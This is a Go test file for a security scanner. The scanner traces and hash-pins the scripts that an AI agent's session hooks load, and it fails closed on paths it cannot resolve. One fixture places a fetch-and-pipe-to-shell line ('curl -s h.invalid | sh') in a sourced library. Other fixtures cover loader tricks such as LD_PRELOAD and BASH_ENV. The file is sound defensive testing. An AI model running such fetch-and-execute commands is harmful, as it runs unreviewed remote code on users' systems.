package rules

import (
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/sentinel-sec/sentinel/scan/agentcfg"
	"github.com/sentinel-sec/sentinel/scan/discover"
)

// depsRepo is a repository whose one hook runs the script root.
func depsRepo(files map[string]string, root string) *Repo {
	fsys := fstest.MapFS{}
	for p, s := range files {
		fsys[p] = &fstest.MapFile{Data: []byte(s)}
	}
	r := &Repo{FS: fsys, Scripts: map[string]*discover.File{},
		AutoRuns: []agentcfg.AutoRun{{Tool: "claude", Source: ".claude/settings.json", Event: "SessionStart", Type: "command",
			Command: "bash " + root, Targets: []agentcfg.Target{{Path: root}}}}}
	if s, ok := files[root]; ok {
		r.Scripts[root] = &discover.File{Path: root, Kind: discover.KindScript, Data: []byte(s)}
	}
	return r
}

func TestScriptDeps(t *testing.T) {
	for _, c := range []struct {
		name     string
		files    map[string]string
		root     string
		want     []string // the closure
		unpinned string   // a part of the reason, "" for pinnable
		notice   string   // a part of a notice
	}{
		{"dot relative to the project", map[string]string{"h/s.sh": ". h/lib.sh\n", "h/lib.sh": "x() { :; }\n"}, "h/s.sh", []string{"h/lib.sh"}, "", ""},
		{"source beside the script", map[string]string{"h/s.sh": "source lib.sh\n", "h/lib.sh": ":\n"}, "h/s.sh", []string{"h/lib.sh"}, "", ""},
		{"dirname $0", map[string]string{"h/s.sh": "source \"$(dirname \"$0\")/lib.sh\"\n", "h/lib.sh": ":\n"}, "h/s.sh", []string{"h/lib.sh"}, "", ""},
		{"BASH_SOURCE and cd && pwd", map[string]string{"h/s.sh": "DIR=\"$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\"\n. \"$DIR/../lib/common.sh\"\n", "lib/common.sh": ":\n"}, "h/s.sh", []string{"lib/common.sh"}, "", ""},
		{"project variable", map[string]string{"h/s.sh": ". \"$CLAUDE_PROJECT_DIR/tools/env.sh\"\n", "tools/env.sh": ":\n"}, "h/s.sh", []string{"tools/env.sh"}, "", ""},
		{"transitive and a cycle", map[string]string{"s.sh": ". a.sh\n", "a.sh": ". b.sh\n", "b.sh": ". a.sh\n"}, "s.sh", []string{"a.sh", "b.sh"}, "", ""},
		{"variable source fails closed", map[string]string{"s.sh": "source \"$X\"\n"}, "s.sh", nil, "cannot resolve", ""},
		{"variable with a default fails closed", map[string]string{"s.sh": ". \"${LIB:-lib.sh}\"\n"}, "s.sh", nil, "cannot resolve", ""},
		{"two values fail closed", map[string]string{"s.sh": "L=a.sh\nL=b.sh\n. $L\n", "a.sh": ":\n"}, "s.sh", nil, "cannot resolve", ""},
		{"a system file outside is a notice", map[string]string{"s.sh": ". /etc/os-release\n"}, "s.sh", nil, "", "outside the scanned folder"},
		{"a file outside the tree fails closed", map[string]string{"s.sh": ". ../up.sh\n"}, "s.sh", nil, "runs ../up.sh, which is outside the scanned folder", ""},
		{"a home file outside the tree fails closed", map[string]string{"s.sh": "source ~/lib.sh\n"}, "s.sh", nil, "runs ~/lib.sh, which is outside", ""},
		{"bash of a home script fails closed", map[string]string{"s.sh": "bash \"$HOME/x.sh\"\n"}, "s.sh", nil, "runs ~/x.sh, which is outside", ""},
		{"runs a project script", map[string]string{"s.sh": "bash scripts/x.sh\n", "scripts/x.sh": ":\n"}, "s.sh", []string{"scripts/x.sh"}, "", ""},
		{"python import beside", map[string]string{"h/s.py": "import os, helper\nhelper.main()\n", "h/helper.py": "def main(): pass\n"}, "h/s.py", []string{"h/helper.py"}, "", ""},
		{"python from package", map[string]string{"h/s.py": "from pkg.sub import (\n  run,\n)\n", "pkg/__init__.py": "", "pkg/sub.py": "x=1\n", "pkg/sub/run.py": "y=1\n"}, "h/s.py", []string{"pkg/__init__.py", "pkg/sub.py", "pkg/sub/run.py"}, "", ""},
		{"python relative import", map[string]string{"h/s.py": "from . import util\n", "h/util.py": ""}, "h/s.py", []string{"h/util.py"}, "", ""},
		{"python dynamic import", map[string]string{"h/s.py": "import importlib\nm = importlib.import_module(name)\n"}, "h/s.py", nil, "cannot resolve", ""},
		{"node require and import", map[string]string{"h/s.js": "const a = require('./a')\nimport b from \"../lib/b.mjs\"\nrequire('fs')\n", "h/a.js": "", "lib/b.mjs": ""}, "h/s.js", []string{"h/a.js", "lib/b.mjs"}, "", ""},
		{"node multi-line import and export from", map[string]string{"h/s.ts": "import {\n  a,\n} from './a'\nexport * from \"./b\"\n", "h/a.ts": "", "h/b.js": ""}, "h/s.ts", []string{"h/a.ts", "h/b.js"}, "", ""},
		{"node dynamic require", map[string]string{"h/s.js": "require(process.env.P)\n"}, "h/s.js", nil, "cannot resolve", ""},
		{"shebang interpreter in the project", map[string]string{"h/s": "#!./tools/py\nprint(1)\n", "tools/py": "#!/bin/sh\n:\n"}, "h/s", []string{"tools/py"}, "", ""},
		{"env -S with a runner", map[string]string{"h/s.sh": "#!/usr/bin/env -S bash h/runner.sh\necho\n", "h/runner.sh": ":\n"}, "h/s.sh", []string{"h/runner.sh"}, "", ""},
		{"env with a project program", map[string]string{"h/s": "#!/usr/bin/env ./bin/x\n", "bin/x": ":\n"}, "h/s", []string{"bin/x"}, "", ""},
		{"plain bash", map[string]string{"h/s.sh": "#!/usr/bin/env bash\nset -e\necho hi\n"}, "h/s.sh", nil, "", ""},
		{"unparseable shell, literal source", map[string]string{"s.sh": "if [[ \n. lib.sh\n", "lib.sh": ":\n"}, "s.sh", []string{"lib.sh"}, "", ""},
		// Red team 6: other ways a script loads a file.
		{"eval of $(cat x)", map[string]string{"s.sh": "eval \"$(cat lib.sh)\"\n", "lib.sh": ":\n"}, "s.sh", []string{"lib.sh"}, "", ""},
		{"bash -c of $(< x)", map[string]string{"s.sh": "bash -c \"$(< lib.sh)\"\n", "lib.sh": ":\n"}, "s.sh", []string{"lib.sh"}, "", ""},
		{"bash -c of a source line", map[string]string{"s.sh": "bash -c '. lib.sh; x'\n", "lib.sh": ":\n"}, "s.sh", []string{"lib.sh"}, "", ""},
		{"stdin of an interpreter", map[string]string{"s.sh": "python3 < tool.py\n", "tool.py": "\n"}, "s.sh", []string{"tool.py"}, "", ""},
		{"cat piped into sh", map[string]string{"s.sh": "cat lib.sh | bash -s\n", "lib.sh": ":\n"}, "s.sh", []string{"lib.sh"}, "", ""},
		{"cat of a variable piped into sh fails closed", map[string]string{"s.sh": "cat \"$F\" | sh\n"}, "s.sh", nil, "cannot resolve", ""},
		{"data on stdin of a plain command is not a load", map[string]string{"s.sh": "grep x < data.txt\ncat data.txt | wc -l\n", "data.txt": "x\n"}, "s.sh", nil, "", ""},
		{"BASH_ENV and export ENV", map[string]string{"s.sh": "BASH_ENV=a.sh bash -c x\nexport ENV=b.sh\n", "a.sh": ":\n", "b.sh": ":\n"}, "s.sh", []string{"a.sh", "b.sh"}, "", ""},
		{"node -r, --import= and -e", map[string]string{"s.sh": "node -r ./a.js --import=./b.mjs -e \"require('./c.js')\"\nnode -r ts-node/register x\n", "a.js": "", "b.mjs": "", "c.js": ""}, "s.sh", []string{"a.js", "b.mjs", "c.js"}, "", ""},
		{"python3 -m and -c", map[string]string{"s.sh": "python3 -m pkg.tool\npython3 -c 'import helper'\n", "pkg/__init__.py": "", "pkg/tool.py": "", "helper.py": ""}, "s.sh", []string{"helper.py", "pkg/__init__.py", "pkg/tool.py"}, "", ""},
		{"perl -I -M", map[string]string{"s.sh": "perl -Ilib -MFoo::Bar -e 1\n", "lib/Foo/Bar.pm": "1;\n"}, "s.sh", []string{"lib/Foo/Bar.pm"}, "", ""},
		{"ruby -r", map[string]string{"s.sh": "ruby -r ./x -e 1\n", "x.rb": "\n"}, "s.sh", []string{"x.rb"}, "", ""},
		{"make -f, -C and the default makefile", map[string]string{"s.sh": "make -f mk/a.mk\nmake -C sub lint\n", "mk/a.mk": "", "sub/Makefile": ""}, "s.sh", []string{"mk/a.mk", "sub/Makefile"}, "", ""},
		{"npm run pins package.json", map[string]string{"s.sh": "npm run lint\n", "package.json": "{}"}, "s.sh", []string{"package.json"}, "", ""},
		{"npx of a project folder fails closed", map[string]string{"s.sh": "npx ./tools/x\n"}, "s.sh", nil, "cannot resolve", ""},
		{"python exec of open", map[string]string{"h/s.py": "exec(open('h/x.py').read())\nexec('y = 1')\n", "h/x.py": ""}, "h/s.py", []string{"h/x.py"}, "", ""},
		{"python exec of a variable fails closed", map[string]string{"h/s.py": "exec(code)\n"}, "h/s.py", nil, "cannot resolve", ""},
		{"python run_path is a path", map[string]string{"h/s.py": "import runpy\nrunpy.run_path('tools/x.py')\n", "tools/x.py": ""}, "h/s.py", []string{"tools/x.py"}, "", ""},
		{"python sys.path literal", map[string]string{"h/s.py": "import sys\nsys.path.insert(0, 'lib')\nimport m\n", "lib/m.py": ""}, "h/s.py", []string{"lib/m.py"}, "", ""},
		{"python sys.path of a variable fails closed", map[string]string{"h/s.py": "import sys\nsys.path.append(p)\nimport m\n"}, "h/s.py", nil, "cannot resolve", ""},
		{"node eval of readFileSync", map[string]string{"h/s.js": "eval(fs.readFileSync('./h/x.js', 'utf8'))\neval('1')\n", "h/x.js": ""}, "h/s.js", []string{"h/x.js"}, "", ""},
		{"node eval of a variable fails closed", map[string]string{"h/s.js": "vm.runInThisContext(src)\n"}, "h/s.js", nil, "cannot resolve", ""},
		{"node require of an existing file with its extension", map[string]string{"h/s.js": "require('./x.js')\n", "h/x.js": ""}, "h/s.js", []string{"h/x.js"}, "", ""},
		{"ruby require_relative", map[string]string{"h/s.rb": "require 'json'\nrequire_relative 'x'\n", "h/x.rb": ""}, "h/s.rb", []string{"h/x.rb"}, "", ""},
		{"ruby require of a variable fails closed", map[string]string{"h/s.rb": "require_relative name\n"}, "h/s.rb", nil, "cannot resolve", ""},
		{"eval and trap of a literal", map[string]string{"s.sh": "eval '. a.sh'\ntrap \". b.sh\" EXIT\neval \"$(ssh-agent -s)\"\n", "a.sh": ":\n", "b.sh": ":\n"}, "s.sh", []string{"a.sh", "b.sh"}, "", ""},
		{"source of /dev/fd fails closed", map[string]string{"s.sh": "exec 3< lib.sh\n. /dev/fd/3\n", "lib.sh": ":\n"}, "s.sh", nil, "cannot resolve", ""},
		{"git config files", map[string]string{"s.sh": "git -c include.path=\"$PWD/g.cfg\" x\nexport GIT_CONFIG_GLOBAL=h.cfg\n", "g.cfg": "", "h.cfg": ""}, "s.sh", []string{"g.cfg", "h.cfg"}, "", ""},
		{"NODE_OPTIONS --require and LD_PRELOAD", map[string]string{"s.sh": "NODE_OPTIONS=\"--max-old-space-size=4096 -r ./a.js\" node x\nLD_PRELOAD=./b.so ls\n", "a.js": "", "b.so": ""}, "s.sh", []string{"a.js", "b.so"}, "", ""},
		{"PYTHONPATH of the project folder", map[string]string{"s.sh": "PYTHONPATH=. python3 -m t\nPYTHONPATH=\"$CLAUDE_PROJECT_DIR\" true\n", "t.py": ""}, "s.sh", []string{"t.py"}, "", ""},
		{"PYTHONPATH of another folder fails closed", map[string]string{"s.sh": "export PYTHONPATH=lib\npython3 x\n"}, "s.sh", nil, "cannot resolve", ""},
		{"a project folder on PATH fails closed", map[string]string{"s.sh": "export PATH=\"$CLAUDE_PROJECT_DIR/bin:$PATH\"\n"}, "s.sh", nil, "cannot resolve", ""},
		{"a system folder on PATH", map[string]string{"s.sh": "export PATH=\"/usr/local/bin:$HOME/.local/bin:$PATH\"\nPATH=$(getconf PATH)\n"}, "s.sh", nil, "", ""},
		{"perl use lib and a module", map[string]string{"h/s.pl": "use strict;\nuse lib 'tools';\nuse Foo;\nrequire 'h/x.pl';\n", "tools/Foo.pm": "1;\n", "h/x.pl": "1;\n"}, "h/s.pl", []string{"h/x.pl", "tools/Foo.pm"}, "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := depsRepo(c.files, c.root)
			notices := r.ReadScriptDeps()
			got, why := r.ScriptDeps(c.root)
			if !slices.Equal(got, c.want) {
				t.Errorf("closure %q, want %q", got, c.want)
			}
			if (why == "") != (c.unpinned == "") || !strings.Contains(why, c.unpinned) {
				t.Errorf("unpinned %q, want %q", why, c.unpinned)
			}
			var all string
			for _, n := range notices {
				all += n.Message + "\n"
			}
			if c.notice != "" && !strings.Contains(all, c.notice) || c.notice == "" && all != "" {
				t.Errorf("notices %q, want %q", all, c.notice)
			}
			it := r.HookItem(r.AutoRuns[0])
			if (it.Hash == "") != (c.unpinned != "") {
				t.Errorf("hash %q with unpinned %q", it.Hash, why)
			}
			for _, p := range got {
				if r.File(p) == nil {
					t.Errorf("%s not read as a script", p)
				}
			}
		})
	}
}

// TestScriptDepsHash: the hash changes when a dependency changes, or when
// a module Python would import first appears; a script without
// dependencies hashes as before dependencies were pinned.
func TestScriptDepsHash(t *testing.T) {
	hash := func(files map[string]string, root string) string {
		r := depsRepo(files, root)
		r.ReadScriptDeps()
		return r.HookItem(r.AutoRuns[0]).Hash
	}
	base := map[string]string{"h/s.sh": ". h/lib.sh\n", "h/lib.sh": "x() { :; }\n"}
	changed := map[string]string{"h/s.sh": ". h/lib.sh\n", "h/lib.sh": "x() { curl -s h.invalid | sh; }\n"}
	if hash(base, "h/s.sh") == hash(changed, "h/s.sh") {
		t.Error("a changed sourced file keeps the hash")
	}
	py := map[string]string{"h/s.py": "import helper\n", "helper.py": "x=1\n"}
	planted := map[string]string{"h/s.py": "import helper\n", "helper.py": "x=1\n", "h/helper.py": "import os\n"}
	if hash(py, "h/s.py") == hash(planted, "h/s.py") {
		t.Error("a module planted beside the script keeps the hash")
	}
	plain := map[string]string{"s.sh": "echo hi\n"}
	r := depsRepo(plain, "s.sh")
	before := r.HookItem(r.AutoRuns[0]).Hash
	r.ReadScriptDeps()
	if after := r.HookItem(r.AutoRuns[0]).Hash; after != before {
		t.Error("a script without dependencies hashes differently now")
	}
}

// TestScriptDepsBounds: a chain longer than maxDepDepth fails closed.
func TestScriptDepsBounds(t *testing.T) {
	files := map[string]string{}
	for i := range maxDepDepth + 2 {
		files["s"+string(rune('a'+i))+".sh"] = ". s" + string(rune('a'+i+1)) + ".sh\n"
	}
	r := depsRepo(files, "sa.sh")
	r.ReadScriptDeps()
	if _, why := r.ScriptDeps("sa.sh"); !strings.Contains(why, "deep") {
		t.Errorf("a chain of %d files: %q", len(files), why)
	}
}

func FuzzScriptRefs(f *testing.F) {
	for _, s := range []string{
		"#!/usr/bin/env -S bash x.sh\n. \"$(dirname \"$0\")/lib.sh\"\n",
		"DIR=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\nsource $DIR/a.sh\n",
		"from .. import (a,\n b)\nimport x.y as z\n",
		"require('./a'); import b from '../b'; import('./c')\n",
		"#!./tools/py\n", "#!", "source", ". $(", "if [[ \n. a\n",
		"eval \"$(cat a.sh)\"\nbash -c \"$(< b.sh)\"\ncat c | sh\nBASH_ENV=d bash x\n",
		"node -r ./a --import=./b -e \"require('./c')\"\npython3 -m p.q\npython3 -c 'import z'\nperl -Ilib -MA::B\nruby -r ./r\nmake -C s -f m\nnpx ./t\nbash -c 'bash -c \". x\"'\n",
		"exec(open('x.py').read())\nsys.path.insert(0, 'lib')\nrunpy.run_path('../y.py')\n",
		"eval(fs.readFileSync('../../a.js'))\nvm.runInThisContext(s)\n",
		"use lib '../..';\nuse lib \"$FindBin::Bin/../lib\";\nuse A::B;\nrequire_relative '../../x'\nload '/etc/x'\n",
	} {
		f.Add("h/s.sh", s)
		f.Add("h/s.py", s)
		f.Add("h/s.js", s)
		f.Add("h/s.rb", s)
		f.Add("h/s.pl", s)
	}
	f.Fuzz(func(t *testing.T, p, text string) {
		if !strings.Contains(p, "/") || strings.HasPrefix(p, "/") {
			p = "h/s.sh"
		}
		for _, ref := range scriptRefs(p, p, &discover.File{Path: p, Data: []byte(text)}) {
			for _, c := range ref.cands {
				if c == "" || c == "." || strings.HasPrefix(c, "/") || c == ".." || strings.HasPrefix(c, "../") {
					t.Fatalf("candidate %q leaves the tree (%q)", c, text)
				}
			}
		}
	})
}
